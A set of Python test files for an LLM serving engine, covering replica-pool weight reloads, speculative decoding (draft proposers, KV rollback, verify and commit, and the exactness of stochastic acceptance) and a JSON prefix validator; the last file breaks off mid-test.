        sched.stop()


def test_pool_reload_tier_swaps_only_matching_replicas(monkeypatch):
    """ReplicaPool.reload_tier: the 8b pool reloads (metric stamped per
    replica), other tiers and heuristic replicas are untouched, and the
    replica answers on the wire immediately after the swap."""
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    from chronos_trn.config import CacheConfig as _CC, EngineConfig as _EC
    from chronos_trn.fleet.pool import ReplicaPool

    ccfg = _CC.for_slots(2, page_size=8, max_pages_per_seq=16)
    ecfg = _EC(max_batch_slots=2, prefill_buckets=(16, 32, 64),
               fused_decode=False, max_new_tokens=16)
    pool = ReplicaPool.model(1, _params(), MCFG, ccfg, ecfg,
                             tokenizer=ByteTokenizer(
                                 vocab_size=MCFG.vocab_size),
                             tier="8b").start()
    pool.warmup()
    try:
        before = METRICS.snapshot()
        new_params = jax.tree.map(jnp.asarray, _params())
        assert pool.reload_tier("8b", new_params) == 1
        assert pool.reload_tier("1b", new_params) == 0, \
            "no 1b replicas: nothing reloads"
        d = deltas(before, "tier_reloads_total")
        assert d["tier_reloads_total"] == 1
        assert pool[0].scheduler.engine.params is new_params
        r = requests.post(
            f"{pool[0].url}/api/generate",
            json={"model": "llama3", "prompt": "post-reload probe",
                  "stream": False, "options": {"num_predict": 4}},
            timeout=30)
        assert r.status_code == 200 and r.json()["done"] is True
        assert r.json()["model_tier"] == "8b"
    finally:
        pool.stop()
