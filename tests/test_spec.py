"""Speculative decoding (chronos_trn.spec + engine/scheduler wiring):
proposer units, KV rollback, and the headline invariant — greedy output
is byte-identical with speculation on vs. off, at the engine level
(hand-built windows, both cache layouts) and the scheduler level
(including JSON-constrained slots and post-rebuild replay).

Everything runs the tiny model on CPU; fault injection reuses
testing.faults.FaultyEngine exactly like tests/test_prefix_cache.py.
"""
import threading

import jax
import numpy as np
import pytest

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
from chronos_trn.core import model
from chronos_trn.core.json_dfa import build_token_dfa
from chronos_trn.core.kvcache import PageAllocator, SlotContiguousAllocator
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import GenOptions, Scheduler
from chronos_trn.spec import (
    GrammarProposer,
    NgramProposer,
    SlotDraftState,
)
from chronos_trn.testing.faults import EngineFaultPlan, FaultyEngine
from chronos_trn.tokenizer.bpe import ByteTokenizer
from chronos_trn.utils.metrics import GLOBAL as METRICS

pytestmark = pytest.mark.spec

MCFG = ModelConfig.tiny()
PS = 8

_PARAMS = None


def _params():
    global _PARAMS
    if _PARAMS is None:
        _PARAMS = model.init_params(MCFG, jax.random.PRNGKey(0))
    return _PARAMS


def paged_ccfg(num_pages=128):
    return CacheConfig(page_size=PS, num_pages=num_pages, max_pages_per_seq=16)


def slot_ccfg():
    return CacheConfig.for_slots(4, page_size=PS, max_pages_per_seq=16)


def ecfg(**kw):
    kw.setdefault("max_batch_slots", 4)
    kw.setdefault("prefill_buckets", (16, 32, 64))
    kw.setdefault("fused_decode", False)
    kw.setdefault("prefix_cache", False)
    kw.setdefault("spec_draft_len", 4)
    kw.setdefault("spec_draft_len_max", 4)  # verify width 5: small graph
    return EngineConfig(**kw)


def deltas(before: dict, *names) -> dict:
    after = METRICS.snapshot()
    return {n: after.get(n, 0.0) - before.get(n, 0.0) for n in names}


@pytest.fixture(autouse=True)
def _quiet_injected_worker_deaths(monkeypatch):
    orig = threading.excepthook

    def hook(args):
        if getattr(args.thread, "name", "") == "chronos-sched":
            return
        orig(args)

    monkeypatch.setattr(threading, "excepthook", hook)


# ---------------------------------------------------------------------------
# n-gram proposer (pure host-side)
# ---------------------------------------------------------------------------
def test_ngram_prefers_most_recent_occurrence():
    p = NgramProposer(min_n=1, max_n=4)
    # suffix [1,2,3] occurs twice before the end; the later one (at the
    # 8s) must win over the earlier one (at the 7s)
    ctx = [5, 1, 2, 3, 7, 7, 1, 2, 3, 8, 8, 1, 2, 3]
    assert p.propose(ctx, 2) == [8, 8]
    # budget larger than the continuation: clipped at context end
    assert p.propose(ctx, 10) == [8, 8, 1, 2, 3]


def test_ngram_longest_suffix_tried_first():
    p = NgramProposer(min_n=1, max_n=3)
    # 1-gram [3] matches at index 1 (cont 9), but the 2-gram [2,3]
    # match is more specific and must win
    ctx = [2, 3, 9, 9, 2, 3]
    assert p.propose(ctx, 1) == [9]


def test_ngram_no_match_and_budget_zero():
    p = NgramProposer()
    assert p.propose([1, 2, 3, 4], 4) == []   # all-distinct: no repeat
    assert p.propose([1, 2, 1, 2], 0) == []   # zero budget
    with pytest.raises(ValueError):
        NgramProposer(min_n=3, max_n=2)


# ---------------------------------------------------------------------------
# grammar jump-ahead proposer
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def grammar():
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    return GrammarProposer(build_token_dfa(tok)), tok


def test_grammar_forces_literal_interiors(grammar):
    g, tok = grammar
    # after 't' the only legal continuation is "rue", then the literal
    # is a complete document and the run must stop
    s = g.advance(g.initial, ord("t"))
    run, _ = g.propose(s, 8, stop_ids=tok.stop_ids)
    assert run == [ord("r"), ord("u"), ord("e")]
    s = g.advance(g.initial, ord("f"))
    run, _ = g.propose(s, 8, stop_ids=tok.stop_ids)
    assert run == [ord(c) for c in "alse"]


def test_grammar_budget_caps_run(grammar):
    g, tok = grammar
    s = g.advance(g.initial, ord("f"))
    run, _ = g.propose(s, 2, stop_ids=tok.stop_ids)
    assert run == [ord("a"), ord("l")]


def test_grammar_free_and_choice_states_draft_nothing(grammar):
    g, tok = grammar
    # state 0 is the FREE (unconstrained) sentinel — never forced
    assert g.propose(0, 8, stop_ids=tok.stop_ids)[0] == []
    # the initial state has a real choice of document starts
    assert g.propose(g.initial, 8, stop_ids=tok.stop_ids)[0] == []


def test_grammar_advance_ignores_byteless_tokens(grammar):
    g, tok = grammar
    s = g.advance(g.initial, ord("t"))
    for tid in (-1, 10 ** 6, *tok.stop_ids):
        assert g.advance(s, tid) == s


# ---------------------------------------------------------------------------
# adaptive draft length
# ---------------------------------------------------------------------------
def test_slot_draft_state_adapts():
    st = SlotDraftState(draft_len=4, g_state=0)
    st.record(4, 4, 1, 8)          # full accept: grow by 2
    assert st.draft_len == 6
    st.record(6, 6, 1, 8)
    assert st.draft_len == 8
    st.record(8, 8, 1, 8)          # capped at hi
    assert st.draft_len == 8
    st.record(8, 3, 1, 8)          # under half: shrink by 1
    assert st.draft_len == 7
    st.record(2, 1, 1, 8)          # exactly half, partial: unchanged
    assert st.draft_len == 7
    st.record(0, 0, 1, 8)          # nothing drafted: unchanged
    assert st.draft_len == 7
    for _ in range(10):
        st.record(4, 0, 1, 8)
    assert st.draft_len == 1       # floored at lo


# ---------------------------------------------------------------------------
# allocator rollback (truncate)
# ---------------------------------------------------------------------------
def test_paged_truncate_frees_tail_pages():
    alloc = PageAllocator(CacheConfig(page_size=PS, num_pages=16,
                                      max_pages_per_seq=8))
    alloc.allocate(1, 20)                       # 3 pages
    assert alloc.free_pages == 13
    st = alloc.truncate(1, 9)                   # needs 2: frees 1
    assert st.length == 9 and alloc.free_pages == 14
    st = alloc.truncate(1, 9)                   # idempotent at boundary
    assert st.length == 9 and alloc.free_pages == 14
    alloc.check_invariants()
    st = alloc.truncate(1, 0)
    assert st.length == 0 and alloc.free_pages == 16
    alloc.check_invariants()
    with pytest.raises(ValueError):
        alloc.truncate(1, 5)                    # truncate never grows
    with pytest.raises(ValueError):
        alloc.truncate(1, -1)


def test_paged_truncate_never_frees_borrowed_prefix_pages():
    alloc = PageAllocator(CacheConfig(page_size=PS, num_pages=16,
                                      max_pages_per_seq=8))
    # pages owned outside the allocator (what PrefixCache.acquire hands
    # the engine: withheld from the free list, refcounted by the cache)
    shared = [alloc._free.pop(), alloc._free.pop()]

    class _CacheStub:
        def owned_pages(self):
            return list(shared)

        def evictable_pages(self):
            return 0

        def reclaim_pages(self, alloc, need):
            return 0

    alloc.reclaimer = _CacheStub()
    st = alloc.allocate(1, 40, shared_pages=shared)   # 2 borrowed + 3 fresh
    assert st.n_borrowed == 2 and alloc.free_pages == 11
    # rollback to less than the borrowed span: fresh pages come back,
    # the borrowed head must NOT leak into the free list
    st = alloc.truncate(1, 4)
    assert st.length == 4 and alloc.free_pages == 14
    assert list(st.block_table[:2]) == shared
    alloc.check_invariants()


def test_slot_major_truncate_is_watermark_only():
    alloc = SlotContiguousAllocator(
        CacheConfig(page_size=PS, num_pages=32, max_pages_per_seq=8,
                    slot_contiguous=True), n_slots=4)
    alloc.allocate(1, 20)
    st = alloc.truncate(1, 9)
    assert st.length == 9
    alloc.check_invariants()
    with pytest.raises(ValueError):
        alloc.truncate(1, 10)


# ---------------------------------------------------------------------------
# engine-level: verify window + rollback, byte identity on both layouts
# ---------------------------------------------------------------------------
def _greedy(vals, idx):
    return int(idx[int(np.argmax(vals))])


@pytest.mark.parametrize("slot_contig", [False, True],
                         ids=["paged", "slot_major"])
def test_engine_verify_byte_identity(slot_contig):
    """Speculation with a MIX of oracle and garbage drafts must produce
    the exact token stream of plain one-at-a-time decode: acceptance is
    decided by the target model's own greedy sample at every position.
    v2 verify is READ-ONLY — the sequence only advances at spec_commit,
    which scatters exactly the accepted path's K/V (rejected siblings
    never touch the cache, so there is nothing to roll back)."""
    def mk():
        if slot_contig:
            ccfg = slot_ccfg()
        else:
            ccfg = paged_ccfg(64)
        return InferenceEngine(_params(), MCFG, ccfg,
                               ecfg(spec_decode=True))

    rng = np.random.default_rng(42)
    prompt = [256] + [int(t) for t in rng.integers(0, 256, 24)]
    eng_a, eng_b = mk(), mk()
    eng_a.occupy(0, 7)
    eng_b.occupy(0, 7)
    la = eng_a.prefill_seq(7, prompt)
    lb = eng_b.prefill_seq(7, prompt)
    out_a = [int(np.argmax(la))]
    for _ in range(24):
        r = eng_a.decode({0: out_a[-1]})
        out_a.append(_greedy(*r[0]))

    out_b = [int(np.argmax(lb))]
    step = 0
    while len(out_b) < len(out_a):
        pos = eng_b.seq_len(7)
        k = int(rng.integers(0, eng_b._spec_W - 1))
        if step % 2 == 0:      # oracle draft: should mostly accept
            draft = out_a[len(out_b): len(out_b) + k]
        else:                  # garbage draft: must all reject
            draft = [int(t) for t in rng.integers(0, MCFG.vocab_size, k)]
        window = [out_b[-1]] + list(draft)
        res = eng_b.spec_verify({0: window})
        assert eng_b.seq_len(7) == pos      # verify mutated nothing
        vals, idx = res[0]
        assert len(vals) == len(window)
        accepted, pend = 0, None
        for j in range(len(window)):
            g = _greedy(vals[j], idx[j])
            if j + 1 < len(window) and g == window[j + 1]:
                accepted += 1
                out_b.append(g)
                if len(out_b) >= len(out_a):
                    break
            else:
                pend = g
                break
        if pend is not None:
            out_b.append(pend)
        eng_b.spec_commit({0: list(range(accepted + 1))})
        assert eng_b.seq_len(7) == pos + accepted + 1
        step += 1
    assert out_b[: len(out_a)] == out_a


@pytest.mark.parametrize("slot_contig", [False, True],
                         ids=["paged", "slot_major"])
def test_engine_tree_verify_matches_linear(slot_contig):
    """Tree attention isolation: a root-to-leaf path through a branched
    window must score exactly as the same tokens verified as a linear
    window — sibling branches (garbage or not) must be invisible to it,
    and committing the surviving branch must leave the engine on the
    same stream as committing the linear window."""
    def mk():
        ccfg = slot_ccfg() if slot_contig else paged_ccfg(64)
        return InferenceEngine(_params(), MCFG, ccfg,
                               ecfg(spec_decode=True))

    rng = np.random.default_rng(7)
    prompt = [256] + [int(t) for t in rng.integers(0, 256, 20)]
    eng_lin, eng_tree = mk(), mk()
    eng_lin.occupy(0, 3)
    eng_tree.occupy(0, 3)
    l0 = eng_lin.prefill_seq(3, prompt)
    eng_tree.prefill_seq(3, prompt)
    pend = int(np.argmax(l0))
    a, b = 65, 66                       # two draft continuations
    a2 = 67

    # linear window [pend, a, a2]
    vl, il = eng_lin.spec_verify({0: [pend, a, a2]})[0]
    # tree: same path as nodes 1,3 plus sibling branch b (node 2)
    #        0 (pend) -> 1 (a) -> 3 (a2)
    #                 -> 2 (b)
    vt, it = eng_tree.spec_verify(
        {0: ([pend, a, b, a2], [-1, 0, 0, 1])})[0]
    for lin_j, tree_j in ((0, 0), (1, 1), (2, 3)):
        assert list(il[lin_j]) == list(it[tree_j])
        np.testing.assert_allclose(vl[lin_j], vt[tree_j],
                                   rtol=1e-4, atol=1e-5)
    # commit the a-branch on the tree engine, the prefix on the linear
    # one: both engines must now agree on the next decode step
    eng_lin.spec_commit({0: [0, 1, 2]})
    eng_tree.spec_commit({0: [0, 1, 3]})
    nxt = 68
    rl = eng_lin.decode({0: nxt})
    rt = eng_tree.decode({0: nxt})
    assert _greedy(*rl[0]) == _greedy(*rt[0])
    np.testing.assert_allclose(np.asarray(rl[0][0]), np.asarray(rt[0][0]),
                               rtol=1e-4, atol=1e-5)


def test_spec_commit_requires_pending_verify():
    eng = InferenceEngine(_params(), MCFG, paged_ccfg(64),
                          ecfg(spec_decode=True))
    eng.occupy(0, 1)
    eng.prefill_seq(1, list(range(2, 18)))
    with pytest.raises(RuntimeError):
        eng.spec_commit({0: [0]})
    # a valid verify/commit pair, then the stash must be consumed
    eng.spec_verify({0: [1, 2]})
    eng.spec_commit({0: [0, 1]})
    assert eng.seq_len(1) == 18
    with pytest.raises(RuntimeError):
        eng.spec_commit({0: [0]})


def test_spec_verify_rejects_malformed_trees():
    eng = InferenceEngine(_params(), MCFG, paged_ccfg(64),
                          ecfg(spec_decode=True))
    eng.occupy(0, 1)
    eng.prefill_seq(1, list(range(2, 18)))
    with pytest.raises(ValueError):
        eng.spec_verify({0: ([1, 2, 3], [-1, 0])})     # length mismatch
    with pytest.raises(ValueError):
        eng.spec_verify({0: ([1, 2, 3], [-1, 2, 0])})  # non-topological
    # commit path must start at the window root
    eng.spec_verify({0: [1, 2]})
    with pytest.raises(ValueError):
        eng.spec_commit({0: [1]})
    assert eng.seq_len(1) == 16


def test_spec_verify_rejects_oversized_window():
    eng = InferenceEngine(_params(), MCFG, paged_ccfg(64),
                          ecfg(spec_decode=True))
    eng.occupy(0, 1)
    eng.prefill_seq(1, list(range(2, 18)))
    with pytest.raises(ValueError):
        eng.spec_verify({0: list(range(eng._spec_W + 1))})
    with pytest.raises(ValueError):
        eng.spec_verify({0: []})
    # the failed validation must not have advanced the sequence
    assert eng.seq_len(1) == 16


def test_spec_verify_out_of_pages_leaves_state_clean():
    """Window capacity is dry-run checked BEFORE any allocator mutation:
    an OutOfPages verify leaves every sequence's pages and position
    exactly as they were, so the scheduler can retry plainly."""
    ccfg = CacheConfig(page_size=PS, num_pages=8, max_pages_per_seq=4)
    eng = InferenceEngine(_params(), MCFG, ccfg, ecfg(spec_decode=True))
    eng.occupy(0, 1)
    eng.prefill_seq(1, list(range(2, 2 + 3 * PS + 4)))   # 4 of 4 seq pages
    pos0 = eng.seq_len(1)
    free0 = eng.alloc.free_pages
    with pytest.raises(PageAllocator.OutOfPages):
        # 5-wide window needs a 5th page past max_pages_per_seq
        eng.spec_verify({0: [1, 2, 3, 4, 5]})
    assert eng.seq_len(1) == pos0
    assert eng.alloc.free_pages == free0
    eng.alloc.check_invariants()


# ---------------------------------------------------------------------------
# scheduler-level: spec on/off byte identity, metrics, rebuild+replay
# ---------------------------------------------------------------------------
PROMPTS = [f"{'analyst preamble ' * 4}event {i} " * 2 for i in range(3)]


def make_sched(spec_on: bool, fault_spec: str = "", slot_major: bool = False,
               **ecfg_kw):
    cfg = ecfg(max_new_tokens=32, watchdog_interval_s=0.05,
               spec_decode=spec_on, **ecfg_kw)
    ccfg = slot_ccfg() if slot_major else paged_ccfg()
    eng = FaultyEngine(
        InferenceEngine(_params(), MCFG, ccfg, cfg),
        EngineFaultPlan.parse(fault_spec),
    )
    sched = Scheduler(eng, ByteTokenizer(vocab_size=MCFG.vocab_size), cfg)
    sched.start()
    sched.warmup()
    return sched, eng


def _generate(sched, fmt_json=False, max_new=12):
    reqs = [sched.submit(p, GenOptions(max_new_tokens=max_new,
                                       format_json=fmt_json))
            for p in PROMPTS]
    return [r.result(timeout=240) for r in reqs]


@pytest.mark.parametrize("slot_major", [False, True],
                         ids=["paged", "slot_major"])
@pytest.mark.parametrize("fmt_json", [False, True], ids=["plain", "json"])
def test_scheduler_outputs_identical_spec_on_off(slot_major, fmt_json):
    def run(spec_on):
        sched, _ = make_sched(spec_on, slot_major=slot_major)
        try:
            return _generate(sched, fmt_json=fmt_json)
        finally:
            sched.stop()

    before = METRICS.snapshot()
    on = run(True)
    d = deltas(before, "spec_drafted_tokens_total",
               "spec_accepted_tokens_total")
    assert on == run(False)
    # the repetitive preamble workload must actually speculate
    assert d["spec_drafted_tokens_total"] > 0
    assert d["spec_accepted_tokens_total"] > 0


def test_scheduler_spec_composes_with_prefix_cache():
    """Prefix-cache insertion only ever sees verified tokens, so the
    two features compose without output drift."""
    def run(spec_on):
        sched, _ = make_sched(spec_on, prefix_cache=True,
                              prefix_cache_pages=64)
        try:
            return _generate(sched)
        finally:
            sched.stop()

    before = METRICS.snapshot()
    assert run(True) == run(False)
    assert deltas(before, "prefix_cache_hit_tokens")[
        "prefix_cache_hit_tokens"] > 0


def test_spec_metrics_rates_and_gauge():
    sched, _ = make_sched(True)
    before = METRICS.snapshot()
    try:
        _generate(sched)
    finally:
        sched.stop()
    d = deltas(before, "spec_drafted_tokens_total",
               "spec_accepted_tokens_total", "spec_accept_rate_count")
    assert d["spec_drafted_tokens_total"] > 0
    assert 0 < d["spec_accepted_tokens_total"] <= d["spec_drafted_tokens_total"]
    assert d["spec_accept_rate_count"] > 0          # histogram observed
    snap = METRICS.snapshot()
    # n-gram drafts carry the proposer label
    assert snap.get('spec_drafted_tokens_total{proposer="ngram"}', 0) > 0
    assert snap.get("spec_tokens_per_step", 0) >= 1.0


def test_rebuild_replay_stays_byte_identical_with_spec_on():
    """EnginePoisoned mid-verify (FaultyEngine counts verify dispatches
    on the decode fault counter) must heal through rebuild+replay and
    continue the exact same greedy streams, with speculation re-engaging
    on the replayed slots."""
    sched, _ = make_sched(True)
    try:
        reference = _generate(sched)
    finally:
        sched.stop()

    before = METRICS.snapshot()
    sched, eng = make_sched(True, fault_spec="decode_poison@4")
    try:
        epoch0 = eng.inner.epoch
        healed = _generate(sched)
        assert healed == reference
        assert eng.inner.epoch == epoch0 + 1
        assert eng.plan.fired == ["decode_poison"]
        d = deltas(before, "engine_rebuilds", "replays",
                   "spec_drafted_tokens_total")
        assert d["engine_rebuilds"] == 1
        assert d["replays"] >= 1
        assert d["spec_drafted_tokens_total"] > 0
        eng.inner.alloc.check_invariants()
    finally:
        sched.stop()


def test_quarantine_unaffected_by_spec():
    """A poison prompt still walks requeue -> replay -> quarantine with
    speculation on, and batch-mates complete normally."""
    sched, eng = make_sched(True, max_replays=1)
    try:
        tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
        eng.poison_prefix = tok.encode("BADBEEF", bos=True)
        good = sched.submit(PROMPTS[0], GenOptions(max_new_tokens=8))
        bad = sched.submit("BADBEEF and then some",
                           GenOptions(max_new_tokens=8))
        good.result(timeout=240)   # completes (text may decode empty)
        assert good.error is None and good.eval_count > 0
        with pytest.raises(RuntimeError):
            bad.result(timeout=240)
        assert bad.error_kind == "quarantined"
    finally:
        sched.stop()


# ---------------------------------------------------------------------------
# draft trees: topology helpers and controller assembly
# ---------------------------------------------------------------------------
def test_tree_depths_and_ancestors():
    from chronos_trn.spec import ancestor_sets, tree_depths

    parents = [-1, 0, 0, 1, 1, 2]
    assert tree_depths(parents) == [0, 1, 1, 2, 2, 2]
    anc = ancestor_sets(parents)
    assert anc[0] == {0}
    assert anc[3] == {0, 1, 3}
    assert anc[5] == {0, 2, 5}
    with pytest.raises(ValueError):
        tree_depths([-1, 2, 1])        # parent after child


def test_grammar_branch_candidates(grammar):
    g, tok = grammar
    # drive the DFA to "[true" — a real branch point: ',' continues the
    # array, ']' closes the document (possibly plus whitespace)
    s = g.initial
    for ch in "[true":
        s = g.advance(s, ord(ch))
    cands = g.branch_candidates(s, width=2, budget=6,
                                stop_ids=tok.stop_ids)
    assert len(cands) == 2
    seen = set()
    for t, run in cands:
        assert t not in tok.stop_ids
        assert t not in seen        # siblings are distinct tokens
        seen.add(t)
        assert len(run) <= 5        # budget - 1 for the sibling itself
    # a forced state (single legal token) never branches
    s1 = g.advance(g.initial, ord("t"))
    assert g.branch_candidates(s1, 2, 6, tok.stop_ids) == []
    # width/budget floors
    assert g.branch_candidates(s, 0, 6, tok.stop_ids) == []
    assert g.branch_candidates(s, 2, 0, tok.stop_ids) == []


def test_controller_builds_grammar_tree():
    from chronos_trn.spec import SpecDecoder

    cfg = ecfg(spec_decode=True, spec_tree_width=2)
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    dec = SpecDecoder(cfg, tok)
    st = dec.new_state(prompt_ids=())
    # committed "[tr", pending "u": the forced run appends "e", dies at
    # the ,-vs-] branch, and two sibling candidates enter the window
    out = [ord(c) for c in "[tr"]
    draft = dec.propose(st, [], out, ord("u"), budget=8, constrained=True)
    assert draft.tokens[0] == ord("u") and draft.parents[0] == -1
    assert draft.tokens[1] == ord("e") and draft.parents[1] == 0
    sibs = [i for i, p in enumerate(draft.parents) if p == 1]
    assert len(sibs) == 2
    assert draft.max_depth() == 2
    kids = draft.children()
    assert kids[1] == sibs and kids[0] == [1]
    # width 1 collapses the same state to a purely linear draft
    cfg1 = ecfg(spec_decode=True, spec_tree_width=1)
    dec1 = SpecDecoder(cfg1, tok)
    st1 = dec1.new_state(prompt_ids=())
    d1 = dec1.propose(st1, [], out, ord("u"), budget=8, constrained=True)
    assert d1.parents == list(range(-1, len(d1.tokens) - 1))


# ---------------------------------------------------------------------------
# incremental n-gram suffix index
# ---------------------------------------------------------------------------
def test_ngram_index_incremental_matches_stateless():
    """The O(draft_len) incremental path (index over committed tokens +
    boundary scan over the uncommitted tail) must agree with the
    stateless full-context scan on random self-similar streams."""
    from chronos_trn.spec import NgramProposer

    rng = np.random.default_rng(3)
    p = NgramProposer(min_n=1, max_n=4)
    stream = [int(t) for t in rng.integers(0, 6, 120)]
    prompt, rest = stream[:40], stream[40:]
    index = p.new_index(prompt)
    committed = list(prompt)
    i = 0
    while i < len(rest):
        tail = rest[i: i + 1 + int(rng.integers(0, 3))]
        i += len(tail)
        for budget in (1, 3, 6):
            want = p.propose(committed + tail, budget)
            got = p.propose_incremental(index, tail, budget)
            assert got == want, (committed[-8:], tail, budget)
        for t in tail:
            index.push(t)
            committed.append(t)


def test_ngram_index_ctor_equals_pushes():
    from chronos_trn.spec import NgramIndex

    toks = [1, 2, 1, 2, 3, 1, 2]
    a = NgramIndex(1, 3, toks)
    b = NgramIndex(1, 3)
    for t in toks:
        b.push(t)
    for tail in ([2], [3, 1], [1, 2]):
        assert a.propose(tail, 4) == b.propose(tail, 4)


# ---------------------------------------------------------------------------
# stochastic acceptance: distributional exactness (fixed seed)
# ---------------------------------------------------------------------------
CHI2_999_DF11 = 31.264   # chi-square 0.999 quantile at 11 dof


def _emit_one(p, cand_tokens, rng):
    """One spec-style emission: sequential rejection over sibling
    candidates, residual resample on total rejection — the exact
    sequence the scheduler's stochastic walk performs at one node."""
    from chronos_trn.spec import accept_candidates

    winner, residual = accept_candidates(p, cand_tokens, rng)
    if winner >= 0:
        return cand_tokens[winner]
    if residual is None:
        residual = p
    return int(rng.choice(len(residual), p=residual))


def test_stochastic_acceptance_is_distribution_exact():
    """Leviathan acceptance + residual resample must emit tokens
    distributed EXACTLY as direct sampling from p — for point-mass
    drafts from a mismatched q, and for sibling candidate pairs
    (SpecInfer sequential rejection).  Fixed seed, chi-square gate."""
    vocab = 12
    rng = np.random.default_rng(1234)
    p = rng.dirichlet(np.ones(vocab) * 2.0)
    q = rng.dirichlet(np.ones(vocab) * 0.7)   # deliberately mismatched
    n = 6000
    counts = np.zeros(vocab)
    for _ in range(n):
        d = int(rng.choice(vocab, p=q))
        counts[_emit_one(p, [d], rng)] += 1
    chi2 = float(((counts - n * p) ** 2 / (n * p)).sum())
    assert chi2 < CHI2_999_DF11
    counts = np.zeros(vocab)
    for _ in range(n):
        d1, d2 = rng.choice(vocab, size=2, replace=False, p=q)
        counts[_emit_one(p, [int(d1), int(d2)], rng)] += 1
    chi2 = float(((counts - n * p) ** 2 / (n * p)).sum())
    assert chi2 < CHI2_999_DF11


def test_accept_candidates_edge_cases():
    from chronos_trn.spec import accept_candidates

    rng = np.random.default_rng(0)
    p = np.array([1.0, 0.0, 0.0])
    # certain candidate: always accepted
    assert accept_candidates(p, [0], rng)[0] == 0
    # candidate outside the support (-1): never accepted, residual = p
    w, r = accept_candidates(p, [-1], rng)
    assert w == -1 and np.allclose(r, p)
    # candidates covering ALL the mass: acceptance is certain before the
    # residual could vanish
    p2 = np.array([0.6, 0.4])
    w, r = accept_candidates(p2, [0, 1], np.random.default_rng(5))
    assert w in (0, 1) and r is None


# ---------------------------------------------------------------------------
# stochastic end-to-end + sanitizer (rejected-token rollback invariants)
# ---------------------------------------------------------------------------
@pytest.mark.parametrize("slot_major", [False, True],
                         ids=["paged", "slot_major"])
def test_stochastic_spec_e2e_sanitized(slot_major, monkeypatch):
    """Temperature>0 stochastic acceptance end-to-end with
    CHRONOS_SANITIZE on: every allocator mutation is revalidated while
    rejected siblings/tokens come and go, the run must complete cleanly
    in both layouts, and speculation must actually engage."""
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    before = METRICS.snapshot()
    sched, eng = make_sched(True, slot_major=slot_major)
    try:
        reqs = [
            sched.submit(p, GenOptions(max_new_tokens=12, temperature=0.8,
                                       top_p=0.9, seed=100 + i))
            for i, p in enumerate(PROMPTS)
        ]
        for r in reqs:
            r.result(timeout=240)
            assert r.error is None and r.eval_count > 0
    finally:
        sched.stop()
    eng.inner.alloc.check_invariants()
    d = deltas(before, "spec_drafted_tokens_total")
    assert d["spec_drafted_tokens_total"] > 0


def test_temp_greedy_acceptance_matches_spec_off():
    """spec_acceptance=greedy keeps byte identity even at temperature>0:
    the walk consumes the per-request rng in the same order, with the
    same candidate sets and probabilities, as plain decode — so seeded
    sampled streams agree token for token with spec on vs off."""
    def run(spec_on):
        sched, _ = make_sched(spec_on, spec_acceptance="greedy")
        try:
            reqs = [
                sched.submit(p, GenOptions(max_new_tokens=10,
                                           temperature=0.7, top_p=0.95,
                                           seed=7 + i))
                for i, p in enumerate(PROMPTS)
            ]
            return [r.result(timeout=240) for r in reqs]
        finally:
            sched.stop()

    assert run(True) == run(False)


def test_json_constrained_stochastic_stays_valid():
    """Stochastic acceptance composes with the JSON constrainer (and
    tree drafts at its branch points): sampled constrained outputs must
    still parse."""
    import json as _json

    sched, _ = make_sched(True)
    try:
        reqs = [
            sched.submit(p, GenOptions(max_new_tokens=24, temperature=0.9,
                                       seed=40 + i, format_json=True))
            for i, p in enumerate(PROMPTS)
        ]
        texts = [r.result(timeout=240) for r in reqs]
    finally:
        sched.stop()
    for t in texts:
        if t.strip():
            _json.loads(t)
