"""JSON prefix validator + token constrainer: exact cases and fuzz.

The acceptance oracle is Python's json.loads — every complete document
the validator accepts must parse, and every json.loads-parseable doc must
be accepted byte-by-byte.
"""
import json
import random

import numpy as np
import pytest

from chronos_trn.core.json_constrain import (
    JsonConstrainer,
    JsonPrefixValidator,
)
from chronos_trn.tokenizer.bpe import ByteTokenizer


def accepts(s: str) -> bool:
    v = JsonPrefixValidator()
    return v.feed_bytes(s.encode())


def complete(s: str) -> bool:
    v = JsonPrefixValidator()
    return v.feed_bytes(s.encode()) and v.complete


VALID_DOCS = [
    '{"risk_score": 8, "verdict": "MALICIOUS", "reason": "dropper"}',
    '{"a": [1, 2.5, -3e2, true, false, null], "b": {"c": "d"}}',
    '[]', '{}', '[[]]', '[{"x": []}]',
    '"just a string"', 'true', 'null', '-0.5', '0', '120', '1e-9', '0.0',
    '{"esc": "a\\"b\\\\c\\u00e9\\n"}',
    '  {"ws": 1}  ',
    '{"unicode": "naïve — ünïcode"}',
]

INVALID_PREFIXES = [
    '{,', '{"a" 1', '{"a":, ', '[1,,', '[1 2', '{"a": 01', '01', '1e', '--1',
    'tru_', 'nul!', '{"a": .5', '1.2.3', '1e2.3', '{]', '[}', '}', ']',
    '{"a": 1} x', '"unterminated\n', '{"a": +1',
]


@pytest.mark.parametrize("doc", VALID_DOCS)
def test_valid_docs_accepted_and_complete(doc):
    json.loads(doc)  # oracle sanity
    assert accepts(doc)
    assert complete(doc)


@pytest.mark.parametrize("bad", INVALID_PREFIXES)
def test_invalid_prefixes_rejected(bad):
    assert not accepts(bad) or not complete(bad)
    # and specifically the full string must not be accepted+complete while
    # json.loads rejects it
    try:
        json.loads(bad)
        oracle_ok = True
    except Exception:
        oracle_ok = False
    assert not (complete(bad) and not oracle_ok)


def test_every_prefix_of_valid_doc_is_live():
    doc = VALID_DOCS[0].encode()
    for i in range(1, len(doc)):
        v = JsonPrefixValidator()
        assert v.feed_bytes(doc[:i]), f"died at prefix {doc[:i]!r}"


def test_incomplete_not_complete():
    for p in ['{"a"', '{"a": 1', '[1, 2', '"str', '-', '1e', '{']:
        v = JsonPrefixValidator()
        assert v.feed_bytes(p.encode())
        assert not v.complete


def test_fuzz_random_json_docs():
    rng = random.Random(0)

    def gen(depth=0):
        kind = rng.choice(
            ["num", "str", "bool", "null"] if depth > 2 else
            ["num", "str", "bool", "null", "obj", "arr", "obj", "arr"]
        )
        if kind == "num":
            return rng.choice([0, -1, 3.75, 1e-4, 12345, -0.0, 7])
        if kind == "str":
            return "".join(rng.choice('abc "\\\n\técho') for _ in range(rng.randrange(6)))
        if kind == "bool":
            return rng.choice([True, False])
        if kind == "null":
            return None
        if kind == "obj":
            return {f"k{i}": gen(depth + 1) for i in range(rng.randrange(4))}
        return [gen(depth + 1) for _ in range(rng.randrange(4))]

    for _ in range(200):
